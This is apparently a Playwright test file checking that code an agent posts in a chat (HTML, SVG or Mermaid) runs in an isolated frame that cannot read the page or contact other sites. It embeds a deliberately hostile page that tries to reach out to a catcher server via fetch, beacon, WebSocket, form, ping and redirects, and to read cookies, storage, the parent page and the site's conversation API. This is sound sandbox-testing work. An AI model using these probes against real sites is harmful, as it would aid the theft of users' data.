"""Code of a message that is run: in a frame that reads nothing of the page and sends nothing anywhere."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import FrameLocator, Locator, expect

from tests.browser.site import message
from tests.browser.talk import Talk
from tests.browser.watch import Watch
from tests.conftest import once
from tests.support.data.hostile import HOSTILE
from tests.support.servers.loopback_server import LoopbackServer, Request
from tests.support.wires.network import wait_until

pytestmark = once


class Catcher(LoopbackServer):
    """Another site, which counts what comes."""

    def __init__(self) -> None:
        super().__init__()
        self.caught: list[str] = []

    @property
    def url(self) -> str:
        return f"http://{self.address}"

    def take(self, request: Request) -> None:
        self.caught.append(request.path)
        request.reply(204)


@pytest.fixture
def catcher() -> Iterator[Catcher]:
    with Catcher() as server:
        yield server


# Each way out is tried; what it throws is its answer.
HOSTILE_PAGE = """
<!doctype html>
<link rel="stylesheet" href="CATCHER/style"><link rel="prefetch" href="CATCHER/prefetch">
<link rel="preconnect" href="CATCHER">
<style>@import url(CATCHER/import); @font-face { font-family: x; src: url(CATCHER/font) }
p { font-family: x; background: url(CATCHER/background) }</style>
<img src="CATCHER/image"><video src="CATCHER/video"></video><iframe src="CATCHER/frame"></iframe>
<object data="CATCHER/object"></object><script src="CATCHER/script"></script>
<form id="form" action="CATCHER/form"><input name="x" value="y"></form>
<a id="link" href="CATCHER/link" ping="CATCHER/ping">x</a><a id="top" href="CATCHER/top" target="_top">x</a>
<p id="out">running</p>
<script>
const said = {};
async function attempt(name, act) {
  const late = new Promise((done) => setTimeout(done, 1000, "refused: no answer"));
  try {
    said[name] = String(await Promise.race([act(), late]));
  } catch (error) {
    said[name] = `refused: ${error.name}`;
  }
}
(async () => {
  await attempt("fetch", () => fetch("CATCHER/fetch", { mode: "no-cors" }));
  await attempt("own", () => fetch("/api/native/conversations"));
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.databases());
  await attempt("parent", () => parent.document.body.innerText);
  await attempt("top", () => { top.location = "CATCHER/top-location"; });
  await attempt("popup", () => window.open("CATCHER/popup") === null ? "none" : "opened");
  await attempt("beacon", () => navigator.sendBeacon("CATCHER/beacon", "x"));
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket("CATCHER/socket".replace("http", "ws"));
    socket.onopen = done;
    socket.onerror = () => fail(new DOMException("", "SocketError"));
  }));
  await attempt("worker", () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = done;
    worker.onerror = () => fail(new DOMException("", "WorkerError"));
  }));
  await attempt("events", () => new Promise((done, fail) => {
    const events = new EventSource("CATCHER/events");
    events.onopen = done;
    events.onerror = () => fail(new DOMException("", "EventsError"));
  }));
  const out = document.getElementById("out");
  out.onclick = () => {
    document.getElementById("form").submit();
    document.getElementById("top").click();
    document.getElementById("link").click();
    location = "CATCHER/location";
  };
  out.textContent = JSON.stringify(said);
})();
</script>
"""

LEAVING_PAGE = '<p id="out">{}</p><meta http-equiv="refresh" content="0;url=CATCHER/refresh">'
REFUSED = ("fetch", "own", "storage", "parent", "top", "socket", "worker", "events", "cookie")


def run(talk: Talk, code: str, language: str) -> tuple[Locator, FrameLocator]:
    """Let the agent say a block of code, and run it; return its link and its frame."""
    talk.site.record(talk.id, [message(f"Look:\n\n```{language}\n{code}\n```", source="agent")], key=language)
    figure = talk.page.locator("figure.code", has=talk.page.get_by_text(language, exact=True))
    figure.get_by_role("link", name="Run").click()
    expect(figure.locator("iframe")).to_have_count(1)
    return figure.locator("a.run"), figure.frame_locator("iframe")


@pytest.mark.sampled(1)
def test_code_runs_below_itself_and_goes_again(talk: Talk) -> None:
    code = "<p id=x></p><script>document.getElementById('x').textContent = 6 * 7</script>"
    link, frame = run(talk, code, "html")
    expect(frame.locator("#x")).to_have_text("42")
    expect(talk.page).to_have_url(f"{talk.site.url}/c/{talk.id}")
    expect(link).to_have_text("Close")
    link.press("Enter")
    expect(talk.page.locator("iframe")).to_have_count(0)
    drawing = "<svg viewBox='0 0 9 9'><title>A square</title><rect width='9' height='9'/></svg>"
    _, frame = run(talk, drawing, "svg")
    expect(frame.get_by_role("img", name="A square").or_(frame.locator("svg")).first).to_be_visible()


@pytest.mark.sampled(1)
def test_a_diagram_is_drawn_and_a_broken_one_says_what_is_wrong(talk: Talk) -> None:
    _, frame = run(talk, "graph TD; Question --> Answer", "mermaid")
    expect(frame.locator("svg").get_by_text("Answer")).to_be_visible()
    _, frame = run(talk, "graph TD; (((", "Mermaid")
    expect(frame.locator("#drawn")).to_contain_text("This diagram can't be drawn: ")


@pytest.fixture
def hostile(watch: Watch) -> Iterator[None]:
    """For frames whose own refusals are in the console of the page."""
    yield
    dialogs = [each for each in watch.faults if each.startswith("dialog")]
    watch.faults.clear()
    assert dialogs == []


def test_a_page_that_is_run_reads_nothing_and_reaches_no_other_site(
    talk: Talk, catcher: Catcher, hostile: None
) -> None:
    link, frame = run(talk, HOSTILE_PAGE.replace("CATCHER", catcher.url), "html")
    require_nothing_got_out(frame, catcher)
    expect(talk.page).to_have_url(f"{talk.site.url}/c/{talk.id}")
    address = f"{talk.site.url}{link.get_attribute('href')}"
    for opened in (address, f"{address}?frame"):
        talk.page.goto(opened)
        require_nothing_got_out(talk.page.frame_locator("iframe"), catcher)
        expect(talk.page).to_have_url(opened)


def test_a_page_that_leaves_at_once_gets_nowhere(talk: Talk, catcher: Catcher, hostile: None) -> None:
    _, frame = run(talk, LEAVING_PAGE.replace("CATCHER", catcher.url), "html")
    require_left(frame, catcher)
    expect(talk.page).to_have_url(f"{talk.site.url}/c/{talk.id}")


def require_nothing_got_out(frame: FrameLocator, catcher: Catcher) -> None:
    expect(frame.locator("#out")).to_contain_text("{")
    said = json.loads(frame.locator("#out").inner_text())
    assert {name: said[name] for name in REFUSED if not said[name].startswith("refused: ")} == {}
    assert said["popup"] == "none"
    frame.locator("#out").click()
    require_left(frame, catcher)


def require_left(frame: FrameLocator, catcher: Catcher) -> None:
    """Wait until the frame has left: the page does not take it to another site, which is asked nothing."""
    expect(frame.locator("#out")).to_have_count(0)
    assert catcher.caught == []


@pytest.mark.parametrize("language", ["html", "svg", "mermaid"])
def test_hostile_text_in_a_preview_acts_on_nothing_but_the_frame(
    talk: Talk, language: str, hostile: None
) -> None:
    texts = [each.text for each in HOSTILE if "```" not in each.text and len(each.text) < 500]
    opening = "graph TD; A[x]\n" if language == "mermaid" else ""
    run(talk, opening + "\n".join(texts), language)
    # A document of no site is none that the page can read.
    wait_until(
        lambda: talk.page.evaluate("document.querySelector('iframe.preview').contentDocument === null")
    )
    talk.page.wait_for_load_state("networkidle")
    assert talk.page.evaluate("window.hacked") is None
    expect(talk.page).to_have_url(f"{talk.site.url}/c/{talk.id}")
